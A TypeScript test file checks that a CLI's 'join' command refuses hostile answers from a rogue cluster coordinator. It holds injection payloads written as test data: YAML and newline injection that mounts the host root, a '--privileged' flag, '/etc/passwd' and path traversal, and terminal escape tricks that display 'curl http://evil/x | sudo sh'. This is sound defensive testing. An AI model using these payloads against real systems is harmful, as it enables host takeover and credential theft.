/**
 * A rogue coordinator (issue 17, finding 1): whatever it answers, `cslr join` writes a member
 * config that runs Ray nodes only, from the images it was told, and nothing else: no mount, no
 * other service, no command. A value that is not what the protocol allows is refused with the
 * field named, and nothing is written.
 */
import { afterEach, describe, expect, test } from "bun:test";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "yaml";
import { runCli } from "../helpers/cli.ts";
import { honestJoinInfo, startFakeCoordinator, type FakeCoordinator, type FakeOptions } from "./fake-coordinator.ts";

let coordinator: FakeCoordinator | undefined;
const dirs: string[] = [];
afterEach(async () => {
  await coordinator?.stop();
  coordinator = undefined;
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

async function joinWith(info: (url: string) => unknown, options: FakeOptions = {}) {
  coordinator = startFakeCoordinator(info, options);
  const dir = mkdtempSync(join(tmpdir(), "cslr-join-rogue-"));
  dirs.push(dir);
  const result = await runCli(["join", coordinator.url, "--name", "ws9"], { cwd: dir, env: { CSLR_CLUSTER_TOKEN: "t".repeat(32) } });
  return { dir, result };
}

/** The payload: line breaks that URL.canParse drops, then an alias key that replaces the mlflow block. */
const mountRootPayload = "http://127.0.0.1:5000/\n    allowed_hosts: [&m mlflow]\n  *m : {enabled: true, image: evil/root:1, artifacts_path: /, port: 5999}";

describe.skipIf(process.platform !== "linux")("cslr join and a rogue coordinator", () => {
  test("an honest answer is written as a member config: Ray nodes only", async () => {
    const { dir, result } = await joinWith((url) => honestJoinInfo(url));
    expect(result.stderr).toContain("is a member of lab");
    expect(result.exitCode).toBe(0);
    const config = parse(readFileSync(join(dir, "config.yaml"), "utf8"));
    expect(config.services.mlflow).toEqual({ enabled: false, tracking_uri: "http://127.0.0.1:5000" });
    expect(config.services.ray.cpu.image).toBe("rayproject/ray:2.60.0");
  });

  test("line breaks in the MLflow URL cannot add a service that mounts the member's /", async () => {
    const { dir, result } = await joinWith((url) => {
      const info = honestJoinInfo(url);
      info.mlflow.trackingUri = mountRootPayload;
      return info;
    });
    if (existsSync(join(dir, "config.yaml"))) {
      // Whatever was written must not run anything of the coordinator's choosing.
      const text = readFileSync(join(dir, "config.yaml"), "utf8");
      expect(text).not.toContain("evil/root");
      expect(parse(text).services.mlflow.enabled).toBe(false);
    }
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain("mlflow.trackingUri");
    expect(existsSync(join(dir, "config.yaml"))).toBe(false);
    expect(existsSync(join(dir, ".env"))).toBe(false);
  });

  const hostile: [named: string, change: (info: ReturnType<typeof honestJoinInfo>) => void][] = [
    ["ray.cpuImage", (i) => void (i.ray.cpuImage = 'rayproject/ray:2.60.0\n      volumes: ["/:/host"]')],
    ["ray.gpuImage", (i) => void (i.ray.gpuImage = "--privileged")],
    ["coordinator.url", (i) => void ((i.coordinator as Record<string, unknown>).url = "http://127.0.0.1:1/\r\nx: 1")],
    ["coordinator.url", (i) => void ((i.coordinator as Record<string, unknown>).url = "http://127.0.0.1:1/\tx")],
    ["mlflow.trackingUri", (i) => void (i.mlflow.trackingUri = "file:///etc/passwd")],
    ["mlflow.trackingUri", (i) => void (i.mlflow.trackingUri = "http://user:pw@127.0.0.1:5000/")],
    ["mlflow.trackingUri", (i) => void (i.mlflow.trackingUri = "http://127.0.0.1:5000/\u001b[2J")],
    ["election.whitelist.0", (i) => void ((i.election as Record<string, unknown>).whitelist = ["ray-cpu\n  - x"])],
    ['ray: Unrecognized key: "mounts"', (i) => void (i.ray.mounts = [{ source: "/", target: "/host" }])],
    ["redis.gcsPassword", (i) => void ((i.redis as Record<string, unknown>).gcsPassword = "p".repeat(20) + "\nCSLR_CLUSTER_TOKEN=mine")],
    ["redis.gcsNamespace", (i) => void ((i.redis as Record<string, unknown>).gcsNamespace = "../../etc")],
  ];
  for (const [named, change] of hostile) {
    test(`a hostile value (${named.split(":")[0]}) is refused, naming the field, and nothing is written`, async () => {
      const { dir, result } = await joinWith((url) => {
        const info = honestJoinInfo(url);
        change(info);
        return info;
      });
      expect(result.exitCode).toBe(2);
      expect(result.stderr).toContain(named);
      expect(existsSync(join(dir, "config.yaml"))).toBe(false);
    });
  }

  /** Clears the screen, homes the cursor and prints advice of the coordinator's choosing. */
  const screenTrick = "\u001b[2J\u001b[H\u001b[32mall good\u001b[0m\r\nnext: curl http://evil/x | sudo sh\u202e";
  const unprintable = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/;
  const tricks: [what: string, info: (url: string) => unknown, options: FakeOptions][] = [
    ["a refusal's reason", (url) => honestJoinInfo(url), { refuse: { status: 403, error: screenTrick } }],
    ["an unknown key in the join information", (url) => ({ ...honestJoinInfo(url), [screenTrick]: 1 }), {}],
    ["the reach-back probe's error", (url) => honestJoinInfo(url), { probe: (port) => ({ port, reachable: false, error: screenTrick }) }],
  ];
  for (const [what, info, options] of tricks) {
    test(`escape sequences in ${what} are never printed raw`, async () => {
      const { dir, result } = await joinWith(info, options);
      expect(result.exitCode).not.toBe(0);
      expect(result.stderr).toContain("all good");
      expect(result.stderr).not.toMatch(unprintable);
      expect(existsSync(join(dir, "config.yaml"))).toBe(false);
    });
  }
});
